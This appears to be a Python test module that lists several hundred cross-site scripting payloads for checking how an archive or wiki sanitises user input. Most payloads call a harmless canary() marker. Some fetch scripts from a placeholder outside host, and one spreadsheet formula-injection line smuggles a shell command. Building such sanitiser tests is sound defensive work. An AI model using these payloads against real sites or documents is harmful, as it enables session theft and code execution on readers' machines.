"""What somebody might write into an archive so that it runs in the browser of whoever reads it.

Every payload calls `canary()` when it runs. None holds a line break or a tab, so that it fits every field.
"""

RUN = "canary()"
AWAY = "https://elsewhere.invalid"

ELEMENTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}//<</script>", f"<script src=//elsewhere.invalid/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>", f"<script type=module>{RUN}</script>",
    f"<script>{RUN}<!--", f"<script><!-- --!>{RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe src=javascript:parent.{RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'>", f"<object data=javascript:{RUN}>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'>", f"<embed src=javascript:{RUN}>",
    f"<embed src='data:text/html,<script>parent.{RUN}</script>'>", f"<frameset onload={RUN}>",
    f"<base href=javascript:/a/-{RUN}///////>", f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>", f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=import href=data:text/html,<script>{RUN}</script>>", f"<link rel=prefetch href={AWAY}/>",
    f"<template><script>{RUN}</script></template>", f"<portal src=javascript:{RUN}>", f"<isindex type=image src=1 onerror={RUN}>",
    f"<applet code=javascript:{RUN}>", f"<xmp><img src=x onerror={RUN}></xmp><img src=x onerror={RUN}>", f"<plaintext><img src=x onerror={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}>", f"</textarea><img src=x onerror={RUN}>", f"</title><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</iframe><script>{RUN}</script>", f"</xmp><script>{RUN}</script>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{RUN}\">", f"<img src=x onerror='{RUN}'>", f"<img src=x onerror=`{RUN}`>",
    f"<IMG SRC=x OnErRoR={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x:x onerror={RUN}//", f"<img src onerror={RUN}", f"<image src=x onerror={RUN}>",
    f"<img src=x onerror=&#99;anary()>", f"<img src=x onerror=&#x63;anary&#40;&#41;>", f"<img src=x onerror=\\u0063anary()>",
    f"<img srcset=x onerror={RUN}>", f"<img src=x onerror=eval('canary'+'()')>", f"<img src=x onerror=window['canary']()>",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<body onhashchange={RUN}>", f"<body onfocus={RUN}>", f"<body onresize={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=# autofocus tabindex=1 onfocus={RUN}>x</a>", f"<video src=x onerror={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<audio autoplay onloadstart={RUN} src=x>", f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={RUN}>", f"<p style=transition:1s ontransitionend={RUN}>x", f"<div contenteditable autofocus onfocus={RUN}>",
    f"<dialog open onclose={RUN}>", f"<track onerror={RUN}>", f"<object onerror={RUN} data=x>", f"<keygen autofocus onfocus={RUN}>", f"<div onpointerrawupdate={RUN}>",
    f"<x onclick={RUN} id=x tabindex=1 autofocus onfocus={RUN}>x",
]

ATTRIBUTES = [
    f"\" onmouseover={RUN} x=\"", f"' onmouseover={RUN} x='", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>", f"><img src=x onerror={RUN}>", f"\" autofocus onfocus={RUN} \"", f"' autofocus onfocus={RUN} '", f"` onerror={RUN} `",
    f"\"/><svg/onload={RUN}>", f"x\" src=x onerror=\"{RUN}", f"&quot; onfocus={RUN} autofocus &quot;", f"&#34;><img src=x onerror={RUN}>", f"\\\"><img src=x onerror={RUN}>",
    f"\\'-{RUN}-'", f"'-{RUN}-'", f"\"-{RUN}-\"", f"\");{RUN}//", f"');{RUN}//", f"${{{RUN}}}", f"`${{{RUN}}}`", f"\" style=\"background:url(javascript:{RUN})", f"\" srcdoc=\"<script>{RUN}</script>",
]

ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java&#9;script:{RUN}", f"java&Tab;script:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}",
    f"\\x01javascript:{RUN}", f"javascript://example.org/%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", f"blob:{RUN}", f"//elsewhere.invalid/", f"https://example.org/\"onmouseover={RUN}//",
    f"https://example.org/'><img src=x onerror={RUN}>", f"https://example.org/<script>{RUN}</script>", f"https:javascript:{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}",
]

STYLES = [
    f"<style>@import '{AWAY}/x.css';</style>", f"<style>body{{background:url({AWAY}/x)}}</style>", f"<style>*{{x:expression({RUN})}}</style>", f"<p style=\"background:url({AWAY}/x)\">x</p>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/x)}}*{{font-family:x}}</style>", f"<style onload={RUN}></style>", f"}}</style><script>{RUN}</script>", f"\\3c script\\3e {RUN}",
    f"red;}}*{{background:url({AWAY}/x)}}", f"</style><img src=x onerror={RUN}>",
]

DRAWINGS = [
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><script>canary&#40;&#41;</script></svg>", f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>", f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror={RUN} /></svg>#x\">", f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>", f"<svg><image href=x onerror={RUN}></svg>", f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>", f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
]

TEMPLATES = [
    "{{{title}}}", "{{&title}}", "{{=<% %>=}}<%{page_title}%>", "{{#text}}<script>canary()</script>{{/text}}", "{{>layout}}", "{{constructor.constructor('canary()')()}}",
    "{% raw %}<script>canary()</script>{% endraw %}", "<%= canary() %>", "#{canary()}", "{{/main}}<script>canary()</script>{{$main}}", "[[${canary()}]]", "{{html}}<img src=x onerror=canary()>",
]

MARKS = [
    f"[x](javascript:{RUN})", f"[x](JAVASCRIPT:{RUN})", f"[x](<javascript:{RUN}>)", f"[x](data:text/html,<script>{RUN}</script>)", f"[x](\\x01javascript:{RUN})", f"[x](java&Tab;script:{RUN})",
    f"![x](x\" onerror=\"{RUN})", f"![x](javascript:{RUN})", f"![x]({AWAY}/x.png)", f"![x](x '\" onerror={RUN} \"')", f"[x](x \"\\\"><img src=x onerror={RUN}>\")", f"<javascript:{RUN}>", f"[[people/x|<img src=x onerror={RUN}>]]",
    f"[[<img src=x onerror={RUN}>]]", f"[[javascript:{RUN}]]", f"[[\" onmouseover=\"{RUN}]]", f"[[people/\"><script>{RUN}</script>]]", f"[^<img src=x onerror={RUN}>]: x [^<img src=x onerror={RUN}>]", f"`<img src=x onerror={RUN}>`",
    f"```<img src=x onerror={RUN}>", f"~~<img src=x onerror={RUN}>~~", f"{{=={RUN}<img src=x onerror={RUN}>==}}", f"{{++<script>{RUN}</script>++}}", f"{{--<script>{RUN}</script>--}}", f"{{~~a~><img src=x onerror={RUN}>~~}}",
    f"{{>><img src=x onerror={RUN}><<}}", f"{{#\" onmouseover={RUN} \"}}", f"|<img src=x onerror={RUN}>|a| |-|-|", f"# <img src=x onerror={RUN}>", f"> <img src=x onerror={RUN}>", f"⟦<img src=x onerror={RUN}>⟧", f"¶<img src=x onerror={RUN}>",
]

DATA = [
    f"</script><script>{RUN}</script>", f"</ScRiPt><img src=x onerror={RUN}>", f"</script ><svg onload={RUN}>", f"<!--<script>{RUN}", f"<!--<script></script><img src=x onerror={RUN}>-->", f"--><script>{RUN}</script>", f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>", f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<!DOCTYPE x [<!ENTITY x '<script>{RUN}</script>'>]>&x;", f"\"}}</script><script>{RUN}</script>", f"\"}},\"x\":{RUN},\"y\":{{\"", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\\"}};{RUN};//", f"=HYPERLINK(\"javascript:{RUN}\")", f"=cmd|' /C calc'!A0", f"\u2028{RUN}//", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞", f"\u202e<script>{RUN}</script>", f"<mark><img src=x onerror={RUN}></mark>", f"<em>{RUN}</em><img src=x onerror={RUN}>",
]

PAYLOADS = ELEMENTS + HANDLERS + ATTRIBUTES + ADDRESSES + STYLES + DRAWINGS + TEMPLATES + MARKS + DATA
